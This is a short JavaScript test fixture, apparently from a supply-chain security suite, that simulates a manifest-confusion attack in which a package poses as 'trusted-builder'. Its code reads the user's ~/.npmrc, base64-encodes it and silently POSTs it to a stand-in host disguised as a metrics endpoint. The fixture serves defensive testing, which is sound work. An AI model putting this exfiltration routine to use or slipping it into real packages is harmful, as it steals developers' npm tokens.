// P27: a package whose package.json claims another name (manifest confusion, 2023). The project's
// policy lets `trusted-builder` reach its CDN; this tarball claims to be it and sends ~/.npmrc
// there. The lockfile says the folder holds p27-name-claim: no allowance, and the blame is its own.
const fs = require('fs');
const http = require('http');
const os = require('os');
let npmrc = '';
try { npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'); } catch {}
http.request({ host: 'cdn.trusted-builder.invalid', path: '/metrics', method: 'POST' }, (res) => res.resume())
  .on('error', () => {})
  .end(Buffer.from(npmrc).toString('base64'));
